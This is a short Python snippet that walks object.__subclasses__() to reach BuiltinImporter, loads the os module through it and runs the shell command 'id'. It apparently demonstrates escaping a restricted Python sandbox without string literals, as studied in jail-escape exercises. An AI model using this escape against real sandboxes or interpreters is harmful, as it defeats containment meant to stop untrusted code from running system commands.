# No literal needed at all when the name `object` is still reachable.
for cls in object.__subclasses__():
    if cls.__name__ == "BuiltinImporter":
        shell = cls.load_module("os")
        shell.system("id")
